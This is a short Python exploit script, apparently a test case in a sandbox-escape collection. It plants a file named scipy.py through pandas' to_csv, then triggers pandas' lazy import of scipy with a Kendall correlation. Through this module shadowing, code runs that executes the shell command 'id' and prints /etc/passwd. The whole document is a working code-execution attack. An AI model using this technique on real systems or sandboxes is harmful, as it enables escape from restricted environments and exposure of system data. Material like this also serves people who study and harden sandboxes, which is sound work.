# source: sys.path[0]='' module shadowing (docs.python.org security_warnings: -P/PYTHONSAFEPATH) + pandas import_optional_dependency
# family: plant module via allowed relative write (to_csv/savetxt) + lazy import of optional dependency from cwd (corr(method='kendall') -> scipy)
# goal: RCE: id + /etc/passwd
import pandas as pd
payload = "import os;print(os.popen('id').read());print(open('/etc/passwd').read())"
pd.DataFrame({"c": [payload]}).to_csv("scipy.py", index=False, header=False)
df = pd.DataFrame({"a": [1.0, 2.0, 3.0], "b": [3.0, 1.0, 2.0]})
print(df.corr(method="kendall"))
